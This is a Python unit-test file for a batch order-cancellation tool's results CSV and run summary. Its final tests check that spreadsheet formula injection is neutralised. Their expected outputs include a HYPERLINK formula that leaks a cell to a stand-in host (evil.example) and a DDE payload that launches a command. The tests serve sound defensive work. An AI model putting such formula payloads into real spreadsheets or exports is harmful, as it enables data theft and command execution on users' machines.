"""Unit tests for report.py: the results CSV in input order, and the summary."""

from __future__ import annotations

import csv
import json
from collections import Counter
from pathlib import Path

import pytest

from batch_cancel.client import parse_error
from batch_cancel.config import default_results_path
from batch_cancel.formats.results_csv import ResultsWriter
from batch_cancel.formats.summary_text import format_summary
from batch_cancel.models import ExitStatus, LoadedRow, LocalCode, Outcome, RowResult
from batch_cancel.outcome import FileReport, RunOutcome
from batch_cancel.runner import RunEnd
from batch_cancel.schema import WRITTEN_COLUMNS, safe_cell

from .helpers import CORPUS, main_in_process, read_results, use_cli_env

HEADER = ["order_no", "warehouse_id", "cancel_reason"]


def loaded(source_row: int, *cells: str) -> LoadedRow:
    return LoadedRow(source_row, cells or (f"ORD-{source_row}", "WH", "r"), None, None)


def cancelled(source_row: int) -> RowResult:
    return RowResult(
        source_row=source_row,
        status=Outcome.CANCELLED,
        http_status=200,
        attempts=1,
        request_id=f"req-{source_row}",
        finished_at="2026-11-26T23:00:00.000Z",
    )


def raw_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def write_results(path: Path, *source_rows: int, fail: bool = False) -> ResultsWriter:
    """Add a cancelled result for each row, in the order given; optionally blow up inside."""
    with ResultsWriter(path, HEADER) as writer:
        for source_row in source_rows:
            writer.add(loaded(source_row), cancelled(source_row))
        if fail:
            raise RuntimeError("disk on fire")
    return writer


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "reports" / "orders.results.csv"  # the folder does not exist yet


def test_out_of_order_results_come_out_in_input_order(out: Path) -> None:
    writer = write_results(out, 3, 1, 5, 2, 4)
    assert [row["source_row"] for row in read_results(out)] == ["1", "2", "3", "4", "5"]
    assert [row["order_no"] for row in read_results(out)] == [f"ORD-{n}" for n in range(1, 6)]
    assert writer.rows_written == 5
    assert writer.counts == Counter({Outcome.CANCELLED: 5})


def test_cells_echoed_unchanged_and_result_columns_appended(out: Path) -> None:
    rejected = RowResult(
        source_row=2,
        status=Outcome.REJECTED,
        http_status=400,
        error_code="810",
        error_message="Invalid Input, please validate",
        attempts=1,
    )
    with ResultsWriter(out, HEADER) as writer:
        writer.add(loaded(1, "  000123 ", "NA", 'say "hi", then\nleave'), cancelled(1))
        writer.add(loaded(2, "ORD-2", "WH", "r"), rejected)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    assert raw_rows(out) == [
        [*HEADER, *WRITTEN_COLUMNS],
        [
            *("  000123 ", "NA", 'say "hi", then\nleave'),
            *("1", "cancelled", "200", "", "", "1", "req-1", "2026-11-26T23:00:00.000Z"),
            *("", "", ""),  # nothing recorded as sent: the test's rows carry no request
        ],
        [
            *("ORD-2", "WH", "r"),
            *("2", "rejected", "400", "810", "Invalid Input, please validate", "1", "", ""),
            *("", "", ""),
        ],
    ]


def test_short_row_padded_with_blank_cells(out: Path) -> None:
    with ResultsWriter(out, HEADER) as writer:
        writer.add(loaded(1, "ORD-1"), cancelled(1))
    assert raw_rows(out)[1][:4] == ["ORD-1", "", "", "1"]


def test_results_file_as_input_replaces_old_result_columns(out: Path) -> None:
    header = ["order_no", "source_row", "result_status", "warehouse_id", "result_error_message"]
    with ResultsWriter(out, header) as writer:
        writer.add(loaded(1, "ORD-1", "7", "failed", "WH", "gave up"), cancelled(1))
    [written_header, written] = raw_rows(out)
    assert written_header == ["order_no", "warehouse_id", *WRITTEN_COLUMNS]
    assert written[:5] == ["ORD-1", "WH", "1", "cancelled", "200"]
    assert "failed" not in written
    assert "gave up" not in written


def test_file_appears_only_on_exit(out: Path) -> None:
    with ResultsWriter(out, HEADER) as writer:
        writer.add(loaded(1), cancelled(1))
        assert not out.exists()
        (partial,) = out.parent.glob(f".{out.name}.*.partial")  # unique to this run
        assert partial.stat().st_size > 0
    assert out.exists()
    assert sorted(path.name for path in out.parent.iterdir()) == [out.name]


def test_a_run_that_breaks_off_keeps_its_rows_under_an_incomplete_name(out: Path) -> None:
    with pytest.raises(RuntimeError, match="disk on fire"):
        write_results(out, 2, 1, 4, fail=True)  # row 3 never finished: 4 waits behind the gap
    incomplete = out.with_name(f"{out.stem}.incomplete.csv")
    assert [row["source_row"] for row in read_results(incomplete)] == ["1", "2", "4"]
    # Nothing under the results name: a reviewer must not take this for a whole night.
    assert sorted(path.name for path in out.parent.iterdir()) == [incomplete.name]


def test_counts_per_status(out: Path) -> None:
    invalid = RowResult(source_row=2, status=Outcome.INVALID, error_code=LocalCode.ORDER_NO_MISSING)
    with ResultsWriter(out, HEADER) as writer:
        writer.add(loaded(1), cancelled(1))
        writer.add(loaded(2), invalid)
    assert writer.counts == Counter({Outcome.CANCELLED: 1, Outcome.INVALID: 1})
    assert read_results(out)[1]["result_error_code"] == "order_no_missing"


@pytest.mark.parametrize(
    ("input_path", "expected"),
    [
        ("/data/in/orders.csv", "/data/in/orders.results.csv"),
        ("/data/export.2026-11-26.txt", "/data/export.2026-11-26.results.csv"),
        ("orders", "orders.results.csv"),
    ],
)
def test_default_results_path(input_path: str, expected: str) -> None:
    assert default_results_path(Path(input_path)) == Path(expected)


def job_report(*files: tuple[str, Counter[Outcome]], **reasons: int) -> RunOutcome:
    reports = tuple(
        FileReport(
            input_path=Path(name),
            results_path=Path(name).with_suffix(".results.csv"),
            source="shopee" if name.endswith(".xlsx") else "",
            counts=counts,
            notes=(),
        )
        for name, counts in files
    )
    return RunOutcome(
        counts=sum((counts for _, counts in files), Counter()),
        exit_status=ExitStatus.ROWS_NEED_ATTENTION,
        headline="batch-cancel: done",
        files=reports,
        run_id=1,
        elapsed_s=12.34,
        end=RunEnd(stop_reason=None),
        reasons=Counter({(Outcome.REJECTED, reason): n for reason, n in reasons.items()}),
    )


def test_format_summary_says_why_then_counts_then_where() -> None:
    counts = Counter({Outcome.INVALID: 2, Outcome.CANCELLED: 1234, Outcome.REJECTED: 1})
    text = format_summary(job_report(("/data/orders.csv", counts), **{"with code 9001": 1}))
    assert text.splitlines() == [
        "batch-cancel: done",
        "  3 rows need attention: 2 invalid, 1 rejected with code 9001.",
        "  rows: 1237 in 12.3s",
        "  cancelled     1234",
        "  rejected         1  <- needs attention",
        "  invalid          2  <- needs attention",
        "  results: /data/orders.results.csv",
    ]


def test_format_summary_of_a_night_has_a_section_per_file() -> None:
    text = format_summary(
        job_report(
            ("/in/tkp.csv", Counter({Outcome.CANCELLED: 3})),
            ("/in/shopee.xlsx", Counter({Outcome.CANCELLED: 1, Outcome.DUPLICATE: 1})),
        )
    )
    assert text.splitlines()[-5:] == [
        "  files: 2",
        "    /in/tkp.csv: cancelled 3",
        "      results: /in/tkp.results.csv",
        "    [shopee] /in/shopee.xlsx: cancelled 1, duplicate 1",
        "      results: /in/shopee.results.csv",
    ]


# --- formula-safe cells: what a spreadsheet would run is written as text -------------------

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_safe_cell_neutralises_formula_triggers(trigger: str) -> None:
    assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["", "ORD-1", "1+1", " =1", "'x=1", "é", "5-3"])
def test_safe_cell_leaves_other_text_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_safe_cell_escapes_an_apostrophe_already_in_front_of_a_trigger() -> None:
    # So that reading a results file back can tell "'=1" typed by someone from "=1".
    assert safe_cell("'=1") == "''=1"


def test_dry_run_results_of_formula_corpus_are_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    use_cli_env(monkeypatch, api_key=None)
    out = tmp_path / "formulas.results.csv"
    done = main_in_process(capsys, "run", CORPUS / "formulas.csv", "-o", out, "--dry-run")
    assert done.returncode == ExitStatus.SUCCESS, done.stderr  # a dry run with every row valid
    header, *rows = raw_rows(out)
    assert header[:4] == ["order_no", "warehouse_id", "cancel_reason", "'=buyer_note"]
    notes = [row[3] for row in rows]
    assert notes == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'+6281234567890",
        "'-5",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "'\uff1d1+1",
        "'\uff0bcmd",
        "'\uff0d1",
        "'\uff20SUM(A1)",
        "x",
        "safe",
    ]
    assert rows[10][0] == "'=cmd|' /C calc'!A0"  # the order_no column too
    assert rows[11][2] == "'=1+1"  # and the cancel_reason column
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(TRIGGERS)), row


def test_api_text_is_neutralised_cut_and_one_line(tmp_path: Path) -> None:
    body = json.dumps(
        {
            "metadata": {
                "errors": [
                    {"code": "=2+5", "message": '=HYPERLINK("http://x")\r\n\x1b[2J' + "A" * 900}
                ]
            }
        }
    ).encode()
    code, message = parse_error(body, "application/json")
    result = RowResult(
        source_row=1,
        status=Outcome.REJECTED,
        http_status=400,
        error_code=code,
        error_message=message,
        request_id="@evil\x07",
        attempts=1,
    )
    out = tmp_path / "r.csv"
    with ResultsWriter(out, ["order_no"]) as writer:
        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
    [_, row] = raw_rows(out)
    written = dict(zip(["order_no", *WRITTEN_COLUMNS], row, strict=True))
    assert written["result_error_code"] == "'=2+5"
    assert written["result_error_message"].startswith('\'=HYPERLINK("http://x") [2JAAA')
    assert len(written["result_error_message"]) <= 301
    assert written["result_error_message"].isprintable()
    assert written["result_request_id"] == "'@evil"


def test_any_message_reaching_the_writer_is_one_bounded_line(tmp_path: Path) -> None:
    # e.g. an internal_error row carrying an exception's text
    result = RowResult(
        source_row=1,
        status=Outcome.FAILED,
        error_code="internal_error",
        error_message="-boom\nTraceback\x00 " + "x" * 2000,
    )
    out = tmp_path / "r.csv"
    with ResultsWriter(out, ["order_no"]) as writer:
        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
    message = read_results(out)[0]["result_error_message"]
    assert message.startswith("'-boom Traceback ")
    assert message.isprintable()
    assert len(message) <= 501
